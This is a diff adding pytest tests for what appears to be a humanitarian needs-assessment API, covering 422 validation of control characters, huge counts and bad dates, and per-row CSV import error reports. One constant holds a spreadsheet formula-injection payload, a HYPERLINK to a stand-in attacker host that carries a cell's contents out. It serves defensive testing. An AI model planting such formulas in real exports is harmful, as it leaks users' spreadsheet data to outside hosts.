@@ -5,6 +5,8 @@ from __future__ import annotations
 
 import asyncio
 import copy
+import csv
+import io
 from collections.abc import AsyncIterator
 from typing import Any
 
@@ -280,3 +282,165 @@ async def test_a_back_link_that_a_crash_left_undone_is_completed_by_the_service(
             what="the mark cleared",
         )
         assert done["sequence"] == second["sequence"]
+
+
+# ---- issue 12: exports that stay data, bad input that is a 422, what partners see -------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Sévaré")'
+FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_rows(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text)))
+
+
+def is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+TEXT_FIELDS = [
+    ("location", "site_name"),
+    ("location", "admin1_name"),
+    ("location", "admin2_name"),
+    ("location", "admin1_pcode"),
+    ("location", "admin2_pcode"),
+    ("location", "admin3_pcode"),
+    ("assessment", "reference"),
+    (None, "external_ref"),
+]
+
+
+@pytest.mark.parametrize("character", ["\x00", "\x07", "\x1b"])
+async def test_a_control_character_in_any_text_field_is_a_422_naming_it(
+    needs: NeedsApp, character: str
+) -> None:
+    for part, name in TEXT_FIELDS:
+        given = body()
+        where = given[part] if part else given
+        where[name] = f"Sévaré{character}2" if "pcode" not in name else f"ML05{character}"
+        response = await needs.client.post("/v1/needs", json=given, headers=NRC)
+        path = f"body.{part}.{name}" if part else f"body.{name}"
+        assert response.status_code == 422, (path, response.status_code, response.text)
+        assert path in [e["field"] for e in response.json()["errors"]], response.text
+    for path, given in (
+        ("body.items.0.item_code", body(items=[{"item_code": "KIT\x00NFI", "quantity": 1}])),
+        ("body.norms.profile_id", body(norms={"profile_id": "sphere\x00minimum"})),
+    ):
+        response = await needs.client.post("/v1/needs", json=given, headers=NRC)
+        assert response.status_code == 422, (path, response.text)
+        assert path in [e["field"] for e in response.json()["errors"]], response.text
+    assert await needs.needs.count_documents({}) == 0
+
+    need_id = (await needs.client.post("/v1/needs", json=body(), headers=NRC)).json()["id"]
+    for action, caller in (("reject", COORDINATOR), ("cancel", NRC)):
+        response = await needs.client.post(
+            f"/v1/needs/{need_id}/{action}",
+            json={"reason": f"wrong{character}site"},
+            headers=caller,
+        )
+        assert response.status_code == 422, (action, response.text)
+        assert [e["field"] for e in response.json()["errors"]] == ["body.reason"]
+    held = (await needs.client.get(f"/v1/needs/{need_id}", headers=NRC)).json()
+    assert held["status"] == "submitted"
+
+
+COUNTS = [
+    ("population", "households"),
+    ("population", "individuals"),
+    ("population", "women"),
+    ("population", "men"),
+    ("population", "girls"),
+    ("population", "boys"),
+    ("population", "elderly"),
+    ("population", "disabled"),
+    (None, "severity"),
+]
+
+
+@pytest.mark.parametrize("huge", [2**63, 2**64, 10**30])
+async def test_counts_of_two_to_the_sixty_three_and_more_are_a_422_naming_the_field(
+    needs: NeedsApp, huge: int
+) -> None:
+    for part, name in COUNTS:
+        given = body()
+        if part == "population":
+            # Households no more than individuals, so only the size itself is wrong.
+            given["population"] = {"households": 1, "individuals": huge, name: huge}
+        else:
+            given[name] = huge
+        response = await needs.client.post("/v1/needs", json=given, headers=NRC)
+        path = f"body.{part}.{name}" if part else f"body.{name}"
+        assert response.status_code == 422, (path, response.status_code, response.text)
+        assert path in [e["field"] for e in response.json()["errors"]], response.text
+    for path, given in (
+        ("body.items.0.quantity", body(items=[{"item_code": "KIT-NFI", "quantity": huge}])),
+        (
+            "body.norms.duration_days",
+            body(norms={"profile_id": "sphere-minimum", "duration_days": huge}),
+        ),
+    ):
+        response = await needs.client.post("/v1/needs", json=given, headers=NRC)
+        assert response.status_code == 422, (path, response.status_code, response.text)
+        assert path in [e["field"] for e in response.json()["errors"]], response.text
+    preview = await needs.client.post(
+        "/v1/norms-profiles/sphere-minimum/calculate",
+        json={"population": {"households": huge, "individuals": huge}},
+        headers=NRC,
+    )
+    assert preview.status_code == 422, preview.text
+    assert await needs.needs.count_documents({}) == 0
+
+
+async def test_dates_out_of_range_are_a_422_naming_the_field(needs: NeedsApp) -> None:
+    late = body()
+    late["assessment"]["date"] = "9999-12-31"
+    early = body(period={"start": "0001-01-01", "end": "0001-01-02"})
+    for path, given in (("body.assessment.date", late), ("body.period.start", early)):
+        response = await needs.client.post("/v1/needs", json=given, headers=NRC)
+        assert response.status_code == 422, (path, response.status_code, response.text)
+        assert path in [e["field"] for e in response.json()["errors"]], response.text
+    assert await needs.needs.count_documents({}) == 0
+
+
+BAD_ROWS_FILE = (
+    "Ref,Admin1,Admin2,Site,Households,People,Status,Severity,Assessed,Item,Qty\n"
+    "#meta+id,#adm1+code,#adm2+code,#loc+name,#affected+hh,#affected+ind,#beneficiary+type,"
+    "#severity,#date+reported,#item+code,#item+num\n"
+    "A1,ML05,ML0501,Sévaré 2,120,640,idp,4,2025-03-01,KIT-NFI,120\n"
+    "A2,ML05,ML0501,Sévaré\x003,10,50,idp,3,2025-03-01,KIT-NFI,10\n"
+    f"A3,ML05,ML0501,Sévaré 4,{2**63},{2**63},idp,3,2025-03-01,KIT-NFI,10\n"
+    f"A4,ML05,ML0501,Sévaré 5,10,50,idp,3,2025-03-01,KIT-NFI,{2**64}\n"
+    "A5,ML05,ML0501,Sévaré 6,10,50,idp,3,2025-03-01,KIT-NFI,1e300\n"
+    "A6,ML05,ML0501,Sévaré 7,10,50,idp,3,9999-12-31,KIT-NFI,10\n"
+    f"A7,ML05,ML0501,Sévaré 8,10,50,idp,{2**63},2025-03-01,KIT-NFI,10\n"
+    "A8,ML05,ML0501,Sévaré 9,10,50,idp\x07,3,2025-03-01,KIT-NFI,10\n"
+)
+
+
+async def test_a_bad_row_of_an_import_is_reported_by_row_and_column_not_a_500(
+    needs: NeedsApp,
+) -> None:
+    response = await needs.client.post(
+        "/v1/needs/imports", content=BAD_ROWS_FILE, headers={**NRC, "Content-Type": "text/csv"}
+    )
+    assert response.status_code == 200, response.text
+    report = response.json()
+    assert (report["rows"], report["imported"], report["rejected"]) == (8, 1, 7)
+    columns: dict[int, set[str]] = {}
+    for error in report["errors"]:
+        columns.setdefault(error["row"], set()).add(error["column"])
+    assert columns == {
+        4: {"#loc+name"},
+        5: {"#affected+hh", "#affected+ind"},
+        6: {"#item+num"},
+        7: {"#item+num"},
+        8: {"#date+reported"},
+        9: {"#severity"},
+        10: {"#beneficiary+type"},
+    }, report["errors"]
+    assert all(e["reason"] for e in report["errors"])
+    assert await needs.needs.count_documents({}) == 1
